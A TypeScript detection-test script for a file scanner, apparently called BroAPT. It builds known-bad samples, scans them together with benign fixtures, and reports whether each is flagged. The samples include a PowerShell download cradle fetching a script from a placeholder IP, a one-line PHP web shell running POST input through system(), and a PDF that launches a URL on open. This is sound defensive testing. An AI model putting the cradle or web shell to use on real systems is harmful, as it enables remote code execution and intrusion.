/**
 * The detection table: builds known-bad samples (EICAR plain, zipped and zip
 * in zip, Debian's clamav-testfiles, a PDF that runs JavaScript, macro
 * documents, obfuscated JavaScript, packed PEs, ...) and the benign samples of
 * ../shared/fixtures/samples into one dump folder, runs `broapt scan` over it
 * with the shipped apps, and prints what each file got. Exit 1 when a bad
 * sample is not flagged with its expected finding or a benign one is called
 * malicious.
 *
 *   node scripts/detection-table.ts [--dir DIR] [--quick]
 *
 * --quick takes four of the clamav-testfiles instead of all (for the test).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { fileURLToPath } from 'node:url';
import { buildPe } from '../apps/pe/fixture.ts';
import { macroDoc, macroDocm } from '../apps/office/fixture.ts';
import { HIDDEN_IFRAME_HTML, obfuscatedJs } from '../apps/script/fixture.ts';
import { eicar, pdfRunningJavaScript, randomFuid, zipOf } from '../source/demo/samples.ts';

const REPO = fileURLToPath(new URL('../', import.meta.url));
const TESTFILES = '/usr/share/clamav-testfiles';

export interface Sample {
  label: string;
  /** File name in the dump: a BroAPT name carries the MIME Zeek would have given; others are sniffed. */
  name: string;
  bytes: Buffer;
  /** Bad samples: a rule (prefix) that must be among the findings. Benign ones: none. */
  expect?: string;
}

const named = (mime: string, ext: string) => `HTTP-${randomFuid()}.detections.${mime.replace('/', '.')}.${ext}`;

const PDF_JS = pdfRunningJavaScript('app.launchURL\\("http://198.51.100.3/"\\);');

function which(command: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${command}`]).status === 0;
}

/** The known-bad samples, built here: nothing malicious-looking is stored in the repository. */
export function badSamples(quick: boolean): Sample[] {
  const zipped = zipOf([['eicar.com', eicar()]]);
  const samples: Sample[] = [
    { label: 'EICAR, plain', name: named('text/plain', 'txt'), bytes: eicar(), expect: 'yara.eicar_test_file' },
    { label: 'EICAR, zipped', name: named('application/zip', 'zip'), bytes: zipped, expect: 'clamav.Broapt.Test.EICAR' },
    { label: 'EICAR, zip in zip', name: named('application/zip', 'zip'), bytes: zipOf([['inner.zip', zipped]]), expect: 'clamav.Broapt.Test.EICAR' },
    { label: 'PDF running JavaScript on open', name: named('application/pdf', 'pdf'), bytes: Buffer.from(PDF_JS), expect: 'pdf.score.suspicious' },
    { label: 'PDF with #xx-hidden names', name: named('application/pdf', 'pdf'), bytes: Buffer.from(PDF_JS.replace('/JavaScript', '/J#61va#53cript').replace('/OpenAction', '/Open#41ction')), expect: 'pdf.name-obfuscation' },
    { label: 'Word .doc with an AutoOpen macro', name: named('application/msword', 'doc'), bytes: macroDoc(), expect: 'office.score.malicious' },
    { label: 'Word .docm with an AutoOpen macro', name: named('application/vnd.ms-word.document.macroenabled.12', 'docm'), bytes: macroDocm(), expect: 'office.score.malicious' },
    { label: 'obfuscated JavaScript', name: named('application/javascript', 'js'), bytes: Buffer.from(obfuscatedJs()), expect: 'script.download-execute' },
    { label: 'HTML with a hidden iframe', name: named('text/html', 'html'), bytes: Buffer.from(HIDDEN_IFRAME_HTML), expect: 'script.html.hidden-iframe' },
    { label: 'PowerShell download cradle', name: named('text/plain', 'ps1'), bytes: Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\n"), expect: 'yara.powershell_download_cradle' },
    { label: 'PHP web shell', name: named('text/x-php', 'php'), bytes: Buffer.from('<?php if(isset($_POST["c"])){ system($_POST["c"]); } ?>\n'), expect: 'yara.php_web_shell' },
    { label: 'PE with UPX sections, injection imports', name: named('application/x-dosexec', 'exe'), bytes: buildPe({ sections: ['UPX0', 'UPX1', '.rsrc'], imports: { 'kernel32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] } }), expect: 'pe.packer.upx' },
    { label: 'UPX-packed PE (clamav-testfiles)', name: named('application/x-dosexec', 'exe'), bytes: fs.readFileSync(path.join(TESTFILES, 'clam-upx.exe')), expect: 'pe.packer.upx' },
    { label: 'ELF served as a GIF', name: named('image/gif', 'gif'), bytes: fs.readFileSync('/usr/bin/true'), expect: 'mime.executable-disguised' },
  ];
  if (which('upx')) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'broapt-upx-'));
    const packed = path.join(dir, 'true');
    fs.copyFileSync('/usr/bin/true', packed);
    execFileSync('upx', ['-q', packed]);
    samples.push({ label: 'ELF packed by upx here', name: named('application/x-executable', 'bin'), bytes: fs.readFileSync(packed), expect: 'elf.packer.upx' });
    fs.rmSync(dir, { recursive: true, force: true });
  }
  const testfiles = fs.readdirSync(TESTFILES).sort();
  for (const name of quick ? ['clam.exe', 'clam.zip', 'clam.pdf', 'clam.ole.doc'] : testfiles) {
    samples.push({ label: `clamav-testfiles ${name}`, name: `clamav-testfiles/${name}`, bytes: fs.readFileSync(path.join(TESTFILES, name)), expect: 'clamav.Broapt.Test.ClamAV-Test-File' });
  }
  return samples;
}

/** Every benign sample of the shared fixtures, EICAR left out, under its own name (its MIME is sniffed). */
export function benignSamples(fixtures: string): Sample[] {
  const root = path.join(fixtures, 'samples');
  const samples: Sample[] = [];
  for (const group of fs.readdirSync(root).sort()) {
    const dir = path.join(root, group);
    if (group === 'eicar' || !fs.statSync(dir).isDirectory()) continue;
    for (const name of fs.readdirSync(dir).sort()) {
      if (name === 'SOURCES.md') continue;
      samples.push({ label: `benign ${group}/${name}`, name: `benign/${group}/${name}`, bytes: fs.readFileSync(path.join(dir, name)) });
    }
  }
  return samples;
}

interface Row {
  sample: Sample;
  verdict: string;
  score: number;
  rules: string[];
  ok: boolean;
  /** Members the archive app unpacked, and theirs, as broapt analysed them. */
  children: Array<{ depth: number; member: string; verdict: string; score: number; rules: string[] }>;
}

type RecordLike = Record<string, unknown>;
const rulesOf = (record: RecordLike | undefined) => [
  ...new Set(((record?.findings as Array<{ rule: string; severity: string }> | undefined) ?? []).filter((f) => f.severity !== 'info').map((f) => f.rule)),
];

function descendants(fuid: string, byParent: Map<string, RecordLike[]>, depth = 1): Row['children'] {
  return (byParent.get(fuid) ?? []).flatMap((child) => [
    { depth, member: child.archivePath as string, verdict: (child.verdict as string | undefined) ?? 'failed', score: (child.score as number | undefined) ?? 0, rules: rulesOf(child) },
    ...descendants(child.fuid as string, byParent, depth + 1),
  ]);
}

export function judge(samples: Sample[], records: RecordLike[], dump: string): Row[] {
  const byPath = new Map(records.map((r) => [r.path as string, r]));
  const byParent = new Map<string, RecordLike[]>();
  for (const r of records) if (typeof r.parentFuid === 'string') byParent.set(r.parentFuid, [...(byParent.get(r.parentFuid) ?? []), r]);
  return samples.map((sample) => {
    const record = byPath.get(path.join(dump, sample.name));
    const verdict = (record?.verdict as string | undefined) ?? (record ? `failed: ${record.reason as string}` : 'missing');
    const rules = rulesOf(record);
    const ok = sample.expect === undefined ? record?.status === 'done' && verdict !== 'malicious' : (verdict === 'suspicious' || verdict === 'malicious') && rules.some((rule) => rule.startsWith(sample.expect!));
    const children = record === undefined ? [] : descendants(record.fuid as string, byParent);
    return { sample, verdict, score: (record?.score as number | undefined) ?? 0, rules, ok, children };
  });
}

export function formatTable(rows: Row[]): string {
  const width = Math.max(...rows.map((r) => r.sample.label.length));
  const lines = [`${'SAMPLE'.padEnd(width)}  ${'EXPECTED'.padEnd(36)}  ${'VERDICT'.padEnd(10)}  SCORE  OK   FINDINGS`];
  for (const r of rows) {
    lines.push(`${r.sample.label.padEnd(width)}  ${(r.sample.expect ?? 'not malicious').padEnd(36)}  ${r.verdict.padEnd(10)}  ${String(r.score).padStart(5)}  ${r.ok ? 'yes' : 'NO '}  ${r.rules.join(', ') || '-'}`);
    for (const c of r.children) {
      lines.push(`${`${'  '.repeat(c.depth)}↳ ${c.member}`.padEnd(width)}  ${'(member, as a child entry)'.padEnd(36)}  ${c.verdict.padEnd(10)}  ${String(c.score).padStart(5)}   -   ${c.rules.join(', ') || '-'}`);
    }
  }
  const bad = rows.filter((r) => r.sample.expect !== undefined);
  const benign = rows.filter((r) => r.sample.expect === undefined);
  lines.push(
    '',
    `known-bad: ${bad.filter((r) => r.ok).length}/${bad.length} flagged with the expected finding; benign: ${benign.filter((r) => r.ok).length}/${benign.length} not malicious (${benign.filter((r) => r.verdict === 'suspicious').length} suspicious)`,
  );
  return lines.join('\n');
}

async function main(): Promise<number> {
  const { values } = parseArgs({ options: { dir: { type: 'string' }, quick: { type: 'boolean' }, fixtures: { type: 'string' } } });
  const dir = values.dir ?? fs.mkdtempSync(path.join(os.tmpdir(), 'broapt-detections-'));
  const dump = path.join(dir, 'dump');
  if (fs.existsSync(dump)) throw new Error(`${dump} exists: give --dir a new folder`);
  const fixtures = path.resolve(REPO, values.fixtures ?? process.env.BROAPT_FIXTURES ?? '../shared/fixtures');
  const samples = [...badSamples(values.quick ?? false), ...(fs.existsSync(fixtures) ? benignSamples(fixtures) : [])];
  for (const sample of samples) {
    fs.mkdirSync(path.dirname(path.join(dump, sample.name)), { recursive: true });
    fs.writeFileSync(path.join(dump, sample.name), sample.bytes);
  }
  const logs = path.join(dir, 'logs');
  const scan = spawnSync(process.execPath, [path.join(REPO, 'bin', 'broapt.js'), 'scan', '--api-root', path.join(REPO, 'apps'), '--logs-path', logs, '--log-level', 'warn', dump], {
    stdio: ['ignore', 'ignore', 'inherit'],
    env: { ...process.env, BROAPT_API_ROOT: '' },
  });
  if (scan.status !== 0) process.stderr.write(`broapt scan exited ${scan.status}\n`);
  const records = fs.readFileSync(path.join(logs, 'processed.jsonl'), 'utf8').trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
  const rows = judge(samples, records, dump);
  process.stdout.write(`${formatTable(rows)}\nFiles and logs: ${dir}\n`);
  return rows.every((r) => r.ok) ? 0 : 1;
}

if (process.argv[1] === fileURLToPath(import.meta.url)) process.exitCode = await main();
